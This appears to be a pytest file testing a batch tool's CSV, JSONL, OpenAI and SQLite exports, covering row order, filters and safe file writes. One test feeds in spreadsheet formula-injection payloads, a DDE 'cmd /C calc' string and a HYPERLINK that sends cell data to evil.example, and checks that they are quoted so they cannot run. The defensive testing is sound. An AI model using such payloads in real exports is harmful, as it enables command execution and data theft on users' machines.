"""Exports fit the tools people use: a CSV with LF line ends, plain decimals and a prompt column, in
manifest order with pending tasks as rows, filtered by status and kind; and an SQLite file of three
tables that the standard library's sqlite3 opens as it is."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from batch.output.export import plain
from tests.conftest import Outcome
from tests.output.conftest import SECOND

ORDER = ["lake", "a-fox-", "something-fine-", "hello-"]  # SECOND's tasks, by id prefix (their prompts)


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def shuffle_results(out: Path) -> list[str]:
    """Put results.jsonl in an order that is not the manifest's (as concurrency finishes them)."""
    lines = (out / "results.jsonl").read_text().splitlines(keepends=True)
    (out / "results.jsonl").write_text("".join(reversed(lines)))
    return lines


def test_csv_has_lf_ends_plain_decimals_a_prompt_and_the_manifests_order(
    cli: Callable[..., Outcome], edited: Path
) -> None:
    shuffle_results(edited)
    outcome = cli("export", edited)
    assert outcome.code == 0
    assert "\r" not in outcome.out and outcome.out.endswith("\n")
    assert not re.search(r"\de-\d", outcome.out)  # the chat's cost is about 5e-05
    rows = table(outcome.out)
    assert [r["id"][: len(p)] for r, p in zip(rows, ORDER, strict=True)] == ORDER
    assert [r["prompt"] for r in rows] == ["a lake", "a fox", "something fine", "hello"]
    chat = rows[3]
    assert chat["cost"].startswith("0.0000") and float(chat["cost"]) > 0
    assert plain(7.17e-05) == "0.0000717" and plain(0.5) == "0.5" and plain(3) == 3


HOSTILE = {
    "id": "-flag",
    "kind": "chat",
    "status": "succeeded",
    "model": "gemini-2.5-flash",
    "custom_id": "@SUM(A1:A9)",
    "prompt": "+cmd|' /C calc'!A0",
    "files": [],
    "text": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "usage": {"input_tokens": 3, "output_tokens": 5, "total_tokens": 8},
    "cost": -0.0000717,
    "attempts": 1,
    "meta": {"row": -7, "tab": "\tx", "negative": "-5", "sum": "-2+3", "fine": "a-b"},
}


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_begin_with_a_quote(
    cli: Callable[..., Outcome], tmp_path: Path
) -> None:
    """A server's answer (or a prompt, an id, a meta value) beginning with = + - @, a tab or CR ran as a
    formula when the export was opened in a spreadsheet. Numbers stay numbers; jsonl keeps the text."""
    out = tmp_path / "out"
    out.mkdir()
    failed = {"id": "refused", "kind": "chat", "status": "failed", "model": "gemini-2.5-flash", "files": []}
    failed |= {"error": {"type": "x", "status": 400, "message": "=1+1"}, "attempts": 1}
    (out / "results.jsonl").write_text(json.dumps(HOSTILE) + "\n" + json.dumps(failed) + "\n")
    text = cli("export", out).out
    hostile, refused = table(text)
    assert (hostile["id"], hostile["custom_id"], hostile["prompt"], hostile["text"]) == (
        "'-flag",
        "'@SUM(A1:A9)",
        "'+cmd|' /C calc'!A0",
        "'" + HOSTILE["text"],
    )
    assert refused["error_message"] == "'=1+1"
    assert (hostile["meta.tab"], hostile["meta.sum"]) == ("'\tx", "'-2+3")
    # numbers, and text that is only a number, are read as numbers still
    assert (hostile["cost"], hostile["meta.row"], hostile["meta.negative"]) == ("-0.0000717", "-7", "-5")
    assert (hostile["input_tokens"], hostile["meta.fine"]) == ("3", "a-b")
    # images_missing empty; billed_answers, billed_tokens, billed_cost: the ledger holds none of it
    assert text.splitlines()[1].endswith(",1,,,'+cmd|' /C calc'!A0,,0,0,0.0,-7,'\tx,-5,'-2+3,a-b")
    line = json.loads(cli("export", out, "--format", "jsonl").out.splitlines()[0])
    assert (line["text"], line["id"], line["prompt"]) == (HOSTILE["text"], "-flag", HOSTILE["prompt"])


def test_a_cr_inside_a_csv_cell_is_quoted_not_a_row_end(cli: Callable[..., Outcome], tmp_path: Path) -> None:
    """The csv module quotes only the characters of its line end, LF here: a server's message with a CR
    inside went out bare, and readers split the row there, its tail a row of its own that began `=`."""
    out = tmp_path / "out"
    out.mkdir()
    failed = {"id": "refused", "kind": "chat", "status": "failed", "model": "gemini-2.5-flash", "files": []}
    failed |= {"error": {"type": "x", "status": 400, "message": "no\r=1+1"}, "attempts": 1}
    (out / "results.jsonl").write_text(json.dumps(failed) + "\n")
    text = cli("export", out).out
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2 and len(rows[1]) == len(rows[0]), rows
    assert table(text)[0]["error_message"] == "no\r=1+1"
    assert text.endswith('"no\r=1+1",,,0,0,0.0\n') and not text.endswith("\r\n"), "rows still end in LF"


def test_pending_tasks_are_rows_and_the_filters_pick_rows(
    cli: Callable[..., Outcome], edited: Path, write: Callable[..., Path]
) -> None:
    # the remembered manifest: a task whose line is gone is pending, with its prompt
    lines = (edited / "results.jsonl").read_text().splitlines(keepends=True)
    kept = [line for line in lines if '"prompt": "something fine"' not in line]
    assert len(kept) == len(lines) - 1
    (edited / "results.jsonl").write_text("".join(kept))
    rows = table(cli("export", edited).out)
    pending = [r for r in rows if r["status"] == "pending"]
    assert [(r["prompt"], r["kind"], r["model"]) for r in pending] == [
        ("something fine", "generate", "gpt-image-1")
    ]
    assert rows.index(pending[0]) == 2  # in its place in the manifest
    assert [r["prompt"] for r in table(cli("export", edited, "--status", "pending").out)] == [
        "something fine"
    ]
    picked = table(cli("export", edited, "--status", "succeeded", "--kind", "chat").out)
    assert [r["prompt"] for r in picked] == ["hello"]
    typo = cli("export", edited, "--kind", "chatt")  # would export nothing and exit 0
    assert typo.code == 64 and "did you mean 'chat'?" in typo.err
    prefix = cli("export", edited, "--kind", "gen")  # a beginning of one kind alone: that kind misspelt
    assert prefix.code == 64 and "did you mean 'generate'?" in prefix.err
    own = cli("export", edited, "--kind", "my-own-kind")  # a program's own kind: far from all
    assert own.code == 0 and table(own.out) == []
    # but none of DIR's tasks is of it: said, with the kinds DIR holds, not an empty table without a word
    assert "--kind 'my-own-kind' matched no task" in own.err and "(its kinds: chat, generate)" in own.err
    assert "matched no task" not in cli("export", edited, "--kind", "edit").err  # a built-in kind: no typo
    short = cli("export", edited, "--kind", "ed")  # a program's own kind of two letters: not taken for edit
    assert short.code == 0 and "--kind 'ed' matched no task" in short.err
    both = table(cli("export", edited, "--status", "pending", "--status", "succeeded").out)
    assert len(both) == 4
    # jsonl too: a pending task's line, with its params
    [line] = [
        json.loads(li)
        for li in cli("export", edited, "--format", "jsonl", "--status", "pending").out.splitlines()
    ]
    assert line["status"] == "pending" and line["params"]["quality"] == "low" and line["files"] == []
    # the OpenAI Batch output holds finished tasks only
    assert len(cli("export", edited, "--format", "openai").out.splitlines()) == 3
    # a --manifest that grew: its new task is a pending row
    grown = write(SECOND + "      - {kind: generate, id: new, prompt: a new one}\n", "grown.yaml")
    rows = table(cli("export", edited, "--manifest", grown).out)
    assert rows[-1]["id"] == "new" and rows[-1]["status"] == "pending"


def test_orphaned_lines_are_left_out_unless_asked_for(cli: Callable[..., Outcome], edited: Path) -> None:
    ids = [r["id"] for r in table(cli("export", edited).out)]
    every = table(cli("export", edited, "--include-orphaned").out)
    assert len(ids) == 4 and len(every) == 6
    assert [r["id"] for r in every[:4]] == ids  # the manifest's first, then the orphaned lines
    assert {r["status"] for r in every[4:]} == {"succeeded", "failed"}


def test_sqlite_has_a_typed_table_per_kind_of_line(
    cli: Callable[..., Outcome], edited: Path, tmp_path: Path
) -> None:
    target = tmp_path / "out.db"
    assert cli("export", edited, "--format", "sqlite").code == 64  # a database is a file
    outcome = cli("export", edited, "--format", "sqlite", "--output", target)
    assert outcome.code == 0 and "4 rows written" in outcome.err
    with sqlite3.connect(target) as db:
        tables = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert tables == {"results", "usage", "attempts"}
        rows = db.execute(
            "SELECT position, id, status, prompt, typeof(cost), typeof(total_tokens), json FROM results "
            "ORDER BY position"
        ).fetchall()
        assert [r[3] for r in rows] == ["a lake", "a fox", "something fine", "hello"]
        assert {(r[4], r[5]) for r in rows} == {("real", "integer")}
        assert all(json.loads(r[6])["id"] == r[1] for r in rows)
        usage = db.execute("SELECT task_id, typeof(cost), total_tokens, json FROM usage").fetchall()
        assert len(usage) == 4 and {u[1] for u in usage} == {"real"}
        assert {u[0] for u in usage} == {r[1] for r in rows}  # the orphaned answer is left out
        attempts = db.execute("SELECT task_id, outcome, typeof(status) FROM attempts").fetchall()
        assert len(attempts) == 4 and {a[1] for a in attempts} == {"answered"}
        every = tmp_path / "every.db"
    assert cli("export", edited, "--format", "sqlite", "--output", every, "--include-orphaned").code == 0
    with sqlite3.connect(every) as db:
        assert db.execute("SELECT count(*), sum(orphaned) FROM results").fetchone() == (6, 2)
        assert db.execute("SELECT count(*) FROM usage").fetchone() == (5,)


def test_sqlite_is_never_written_over_a_link_a_device_or_a_pipe(
    cli: Callable[..., Outcome], edited: Path, tmp_path: Path
) -> None:
    """os.replace would put a file where the link, the device or the pipe was (as root, over /dev/full)."""
    kept = tmp_path / "kept.db"
    kept.write_bytes(b"mine")
    link = tmp_path / "link.db"
    link.symlink_to(kept)
    pipe = tmp_path / "pipe.db"
    os.mkfifo(pipe)
    for target in (link, pipe):
        outcome = cli("export", edited, "--format", "sqlite", "--output", target)
        assert outcome.code == 74 and "not a regular file" in outcome.err, outcome.err
    assert link.is_symlink() and kept.read_bytes() == b"mine"
    assert stat.S_ISFIFO(pipe.lstat().st_mode)


def test_an_export_is_never_written_over_dirs_own_files(
    cli: Callable[..., Outcome], edited: Path, tmp_path: Path
) -> None:
    """`export DIR --output DIR/results.jsonl` opened the file before reading it: the results became the
    export's rows (every task 'pending'), status then counted them succeeded, and the next run sent
    nothing. DIR's own files and folders are refused; a new file beside them is written."""
    before = {name: (edited / name).read_bytes() for name in ("results.jsonl", "usage.jsonl")}
    for name, kind in (("results.jsonl", "jsonl"), ("usage.jsonl", "sqlite"), ("runs/x.csv", "csv")):
        outcome = cli("export", edited, "--format", kind, "--output", edited / name)
        assert outcome.code == 64 and f"is {edited}'s own {name.split('/')[0]}" in outcome.err, outcome.err
    assert {name: (edited / name).read_bytes() for name in before} == before
    assert cli("export", edited, "--output", edited / "export.csv").code == 0
    loop = tmp_path / "loop"
    loop.symlink_to(loop)  # resolve() raises for it: the write says what is wrong, as before
    looped = cli("export", edited, "--output", loop)
    assert looped.code == 74 and "Traceback" not in looped.err, looped.err
    assert len(table((edited / "export.csv").read_text())) == 4


def test_a_finished_run_keeps_the_manifests_order_without_reading_the_manifest(
    cli: Callable[..., Outcome], edited: Path, tmp_path: Path
) -> None:
    shuffle_results(edited)
    (tmp_path / "second.yaml").unlink()  # every task has its line: the digests give the order
    outcome = cli("export", edited)
    assert [r["prompt"] for r in table(outcome.out)] == ["a lake", "a fox", "something fine", "hello"]
    assert "cannot list" not in outcome.err
    # a pending task needs the manifest for its row; without it, the others still come in order
    lines = (edited / "results.jsonl").read_text().splitlines(keepends=True)
    (edited / "results.jsonl").write_text("".join(li for li in lines if "something fine" not in li))
    outcome = cli("export", edited)
    assert [r["prompt"] for r in table(outcome.out)] == ["a lake", "a fox", "hello"]
    assert "cannot list the tasks" in outcome.err


def test_odd_values_in_a_line_edited_by_hand_reach_the_exports_as_text(
    cli: Callable[..., Outcome], edited: Path, tmp_path: Path
) -> None:
    """A list as a kind crashed export --format openai (unhashable); a mapping as a model, or an integer of
    30 digits, made the SQLite export fail with 74 ('Error binding parameter') or a traceback."""
    results = edited / "results.jsonl"
    lines = [json.loads(line) for line in results.read_text().splitlines()]
    lake = next(line for line in lines if line["id"] == "lake")  # a task of the manifest: exported
    lake |= {"kind": ["chat"], "model": {"a": 1}, "attempts": 10**30, "prompt": 1e300, "finished_at": [1]}
    results.write_text("".join(json.dumps(line) + "\n" for line in lines))
    usage = edited / "usage.jsonl"
    ledger = [json.loads(line) for line in usage.read_text().splitlines()]
    next(line for line in ledger if line["task_id"] == "lake").update(
        model=["x"], total_tokens=10**30, at={"t": 1}
    )
    usage.write_text("".join(json.dumps(line) + "\n" for line in ledger))
    assert cli("export", edited, "--format", "openai").code == 0
    target = tmp_path / "odd.db"
    done = cli("export", edited, "--format", "sqlite", "--output", target)
    assert done.code == 0, done.err
    with sqlite3.connect(target) as db:
        assert db.execute("SELECT count(*) FROM results").fetchone()[0] == 4
        rows = db.execute("SELECT kind, model, attempts FROM results").fetchall()
        assert any(
            "chat" in str(kind) and "a" in str(model) and attempts == 1e30 for kind, model, attempts in rows
        )


def test_an_export_stopped_part_way_leaves_the_last_one_as_it_was(
    cli: Callable[..., Outcome], edited: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`export --output FILE` opened FILE for writing first: a Ctrl-C (or a full disk) part way left
    last night's export cut to nothing. It is written beside FILE and renamed over it once whole."""
    from batch.cli import inspect

    target = tmp_path / "tonight.csv"
    assert cli("export", edited, "--output", target).code == 0
    target.chmod(0o640)
    whole = target.read_bytes()
    real = inspect.export_rows

    def interrupted(*args: object) -> int:
        stream = args[2]
        stream.write("id,half a row")  # type: ignore[attr-defined]
        raise KeyboardInterrupt

    monkeypatch.setattr(inspect, "export_rows", interrupted)
    stopped = cli("export", edited, "--output", target)
    assert stopped.code != 0 and target.read_bytes() == whole
    assert not list(tmp_path.glob(".tonight.csv.*"))
    monkeypatch.setattr(inspect, "export_rows", real)
    assert cli("export", edited, "--output", target, "--format", "jsonl").code == 0
    assert target.read_bytes() != whole and stat.S_IMODE(target.stat().st_mode) == 0o640


def test_an_export_through_a_link_replaces_its_target_and_keeps_the_link(
    cli: Callable[..., Outcome], edited: Path, tmp_path: Path
) -> None:
    shared = tmp_path / "shared.csv"
    shared.write_text("old\n")
    latest = tmp_path / "latest.csv"
    latest.symlink_to(shared)
    assert cli("export", edited, "--output", latest).code == 0
    assert latest.is_symlink() and shared.read_text().startswith("id,")
